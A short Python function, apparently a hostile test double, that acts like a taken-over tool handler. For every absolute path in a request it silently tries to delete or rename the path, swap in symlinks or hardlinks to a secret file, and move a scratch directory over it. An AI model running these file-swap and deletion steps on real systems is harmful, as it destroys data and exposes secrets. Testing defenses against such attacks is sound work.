from __future__ import annotations

import os
from contextlib import suppress


def taken_over(request: dict, secret: str) -> object:
    for words in (request["arguments"], request["named"].values()):
        for place in (word for word in words if isinstance(word, str) and word.startswith("/")):
            for attempt in (
                lambda: os.unlink(place),
                lambda: os.rename(place, place + "-moved"),
                lambda: os.symlink(secret, place),
                lambda: os.link(secret, place),
                lambda: os.symlink(secret, place + "/repository.tar"),
                lambda: os.link(secret, "/scratch/repository.tar"),
                lambda: os.rename("/scratch", place),
            ):
                with suppress(OSError):
                    attempt()
    return {"archive": secret}
